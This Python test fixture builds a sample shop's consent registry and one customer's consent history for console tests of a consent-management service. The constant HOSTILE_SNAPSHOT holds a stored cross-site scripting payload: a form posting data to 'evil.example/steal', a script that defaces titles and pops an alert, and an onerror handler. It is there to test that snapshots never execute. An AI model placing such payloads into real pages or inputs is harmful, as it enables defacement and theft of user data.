"""A small company for console tests, built through the real service layer."""

from __future__ import annotations

import dataclasses
import re
from dataclasses import dataclass
from datetime import timedelta

from tests.factories import add_notice, add_purpose, add_touchpoint

from trustguardian.domain.common import FixedClock
from trustguardian.domain.events import EventKind
from trustguardian.domain.registry import Channel, ProofType, TouchpointKind
from trustguardian.domain.roles import Role
from trustguardian.domain.subjects import Identifier, IdentifierKind
from trustguardian.service.access import users
from trustguardian.service.collect.evidence import ProofDraft
from trustguardian.service.context import Context
from trustguardian.service.events.recording import record_events
from trustguardian.service.events.validate import EventDraft
from trustguardian.service.registry import notices

PASSWORD = "correct horse battery staple"
EMAIL = "giulia.bianchi@example.it"
PHONE = "+393471234567"
# A snapshot that would deface the console, call home and pop a dialog if it ever ran.
HOSTILE_SNAPSHOT = (
    '<form action="https://evil.example/steal">'
    '<input name="email" value="giulia.bianchi@example.it">'
    '<input type="checkbox" checked> Newsletter</form>'
    "<script>document.title='PWNED';parent.document.title='PWNED';"
    "parent.document.body.dataset.pwned='1';alert('xss')</script>"
    '<img src="x" onerror="parent.document.body.dataset.pwned=\'1\'">'
)
SCAN = bytes.fromhex("89504e470d0a1a0a") + b"scanned paper form"
CSRF = re.compile(r'name="csrf_token" value="([^"]+)"')


@dataclass(frozen=True)
class Company:
    subject_id: str
    consent_event: str  # web form consent: proofs 0 snapshot, 1 network, 2 notice shown
    paper_event: str  # store consent: proof 0 is a scanned paper form


def build_company(ctx: Context) -> Company:
    """Purposes, a notice in two versions, four touchpoints and one person's history."""
    build_registry(ctx)
    return add_person(ctx)


def build_registry(ctx: Context) -> None:
    """The company's purposes, notice (two versions) and four touchpoints."""
    now = ctx.clock.now()
    live = ctx
    ctx = dataclasses.replace(live, clock=FixedClock(now - timedelta(days=60)))
    add_purpose(ctx, "newsletter")
    add_purpose(ctx, "sms-marketing", name="SMS marketing", channels=(Channel.SMS,))
    add_notice(ctx, "privacy-it", "Informativa v1\nTitolare: Bottega Rossi.\n")
    notices.add_notice_version(
        dataclasses.replace(live, clock=FixedClock(now - timedelta(days=30))),
        key="privacy-it",
        text="Informativa v2\nTitolare: Bottega Rossi.\nDPO: dpo@x.it\n",
    )
    web = [ProofType.FORM_SNAPSHOT, ProofType.NETWORK, ProofType.NOTICE_SHOWN]
    add_touchpoint(
        ctx,
        "web-newsletter",
        purposes=["newsletter", "sms-marketing"],
        notice_key="privacy-it",
        required_proofs=web,
        systems=["crm"],
    )
    add_touchpoint(
        ctx,
        "store-desk",
        name="Store desk",
        channel=Channel.STORE,
        purposes=["newsletter"],
        notice_key="privacy-it",
        required_proofs=[ProofType.PAPER_FORM],
        systems=["crm"],
    )
    add_touchpoint(
        ctx,
        "weekly-newsletter",
        name="Weekly newsletter",
        kind=TouchpointKind.ENGAGE,
        channel=Channel.EMAIL,
        purposes=["newsletter"],
        systems=["crm"],
    )
    add_touchpoint(
        ctx,
        "unsubscribe-link",
        name="Unsubscribe link",
        kind=TouchpointKind.RIGHT,
        channel=Channel.EMAIL,
        purposes=["newsletter"],
        systems=["crm"],
    )


def add_person(ctx: Context, email: str = EMAIL, phone: str = PHONE) -> Company:
    """One person's history on the company's registry: a web consent with a hostile snapshot,
    a paper one, then a withdrawal."""
    now = ctx.clock.now()
    v2 = notices.notice_version(ctx, key="privacy-it", version=2)
    ids = (Identifier(IdentifierKind.EMAIL, email), Identifier(IdentifierKind.PHONE, phone))
    web_proofs = (
        ProofDraft(
            ProofType.FORM_SNAPSHOT,
            {"url": "https://shop.example.it/newsletter"},
            HOSTILE_SNAPSHOT.encode(),
            "text/html",
        ),
        ProofDraft(ProofType.NETWORK, {"ip": "203.0.113.7", "user_agent": "Firefox/130"}),
        ProofDraft(
            ProofType.NOTICE_SHOWN, {"key": "privacy-it", "version": 2, "sha256": v2.sha256}
        ),
    )
    recorded = record_events(
        ctx,
        drafts=[
            EventDraft(
                kind=EventKind.CONSENT_GIVEN,
                touchpoint="web-newsletter",
                occurred_at=now - timedelta(days=25),
                identifiers=ids,
                purpose="newsletter",
                proofs=web_proofs,
            ),
            EventDraft(
                kind=EventKind.CONSENT_GIVEN,
                touchpoint="store-desk",
                occurred_at=now - timedelta(days=20),
                identifiers=ids,
                purpose="newsletter",
                proofs=(
                    ProofDraft(ProofType.PAPER_FORM, {"form_reference": "MI-1"}, SCAN, "image/png"),
                ),
            ),
            EventDraft(
                kind=EventKind.CONSENT_WITHDRAWN,
                touchpoint="unsubscribe-link",
                occurred_at=now - timedelta(days=2),
                identifiers=ids,
                purpose="newsletter",
            ),
        ],
    )
    return Company(
        subject_id=recorded[0].event.subject_id,
        consent_event=recorded[0].event.id,
        paper_event=recorded[1].event.id,
    )


def add_users(ctx: Context, suffix: str = "") -> None:
    """One user per role, named after it (and the suffix)."""
    for role in Role:
        users.create_user(ctx, username=role.value + suffix, password=PASSWORD, role=role)
